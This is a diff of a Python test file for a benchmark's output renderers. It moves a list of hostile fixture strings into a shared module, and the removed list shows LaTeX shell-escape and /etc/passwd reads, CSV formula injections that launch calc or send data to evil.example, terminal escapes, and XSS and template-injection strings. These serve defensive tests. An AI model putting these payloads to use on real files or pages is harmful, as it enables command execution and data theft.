@@ -2,11 +2,8 @@
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import re
-from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -20,30 +17,7 @@ from visaudio_bench.suites.construction.dataset import BuiltDataset
 from visaudio_bench.suites.construction.statistics import write_statistics
 from visaudio_bench.suites.datasets import Reject
 
-NASTY = (
-    "line\n\\input{/etc/passwd}",
-    "line\r\n\\immediate\\write18{id}",
-    "line\x0b\\write18{id}\x85\\write18{id}\u2028\\write18{id}",
-    "$\\write18{id}$ ^^5cwrite18 %",
-    "\x1b]0;owned\x07\x1b[2J",
-    "\x9b31m\x9d0;owned\x9c",
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '@SUM(1+9)*cmd|" /C calc"!A0',
-    '=HYPERLINK("http://evil.example?x="&A1)',
-    "\t=1+1",
-    "'=1+1",
-    "<script>alert(1)</script>",
-    "\"><img src=x onerror='alert(1)'>",
-    "&lt;script&gt;",
-    "{{ 7 * 7 }}{% raw %}",
-    "[bold red]loud[/] [click](javascript:alert(1)) ![x](http://evil.example/x.png)",
-    "`code` **bold** | cell | ~~gone~~",
-    "\u202egnp.exe",
-    "half \ud800 of one",
-    "nul\0",
-)
+from ..nasty import NASTY, Tags, harmless, no_formulas
 
 
 def table(text: str) -> Table:
@@ -60,9 +34,7 @@ HARMLESS = table("harmless")
 @pytest.mark.parametrize("text", NASTY)
 def test_no_format_acts_on_a_text(text: str) -> None:
     for form in FORMATS:
-        shown = render([table(text)], form)
-        shown.encode()  # a file and a terminal can take it
-        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", shown)
+        harmless(form, render([table(text)], form))
     assert "\x1b" not in render([table(text)], "text")
 
 
@@ -89,8 +61,7 @@ def test_markdown_holds_no_tag_and_no_link(text: str) -> None:
 
 @pytest.mark.parametrize("text", NASTY)
 def test_no_spreadsheet_calculates_a_text(text: str) -> None:
-    cells = [cell for row in csv.reader(io.StringIO(render([table(text)], "csv"))) for cell in row]
-    assert not [cell for cell in cells if re.match(r"[=@\t\r]|[+-].*[(|!]", cell, re.DOTALL)]
+    no_formulas(render([table(text)], "csv"))
     assert csv_meaning(csv_cell(text)) == csv_meaning(csv_cell(csv_meaning(csv_cell(text))))
     assert [csv_cell(one) for one in ("-dash", "-3.1 ±0.2", "+0.5", "a=b", "it's")] == [
         "-dash", "-3.1 ±0.2", "+0.5", "a=b", "it's",
@@ -101,16 +72,6 @@ def test_no_spreadsheet_calculates_a_text(text: str) -> None:
 def test_json_says_what_the_text_was(text: str) -> None:
     (told,) = json.loads(render([table(text)], "json"))
     assert (told["title"], told["rows"][0]["cells"]["key"]["reason"]) == (text, text)
-
-
-class Tags(HTMLParser):
-    def __init__(self, text: str) -> None:
-        super().__init__()
-        self.found: list[tuple[str, tuple[str, ...]]] = []
-        self.feed(text)
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.found.append((tag, tuple(name for name, _ in attrs)))
 
 
 @pytest.mark.parametrize("text", NASTY)
@@ -139,7 +100,7 @@ def test_rows_come_back_as_they_were_written(tmp_path: Path) -> None:
     rows = [ClipRow("s", "x", name, f"m{n}", "v", None, "missing", why)
             for name in names for n, why in enumerate(reasons)]  # fmt: skip
     write_clip_rows(tmp_path, rows)
-    assert not re.search(r"(^|,)\"?(=|@)", (tmp_path / "clips.csv").read_text(encoding="utf-8"), re.MULTILINE)
+    no_formulas((tmp_path / "clips.csv").read_text(encoding="utf-8"))
     read = read_clip_rows(tmp_path / "clips.csv")
     assert read.column("clip").tolist() == [row.clip for row in rows]
     assert read.column("reason").tolist() == [row.reason for row in rows]
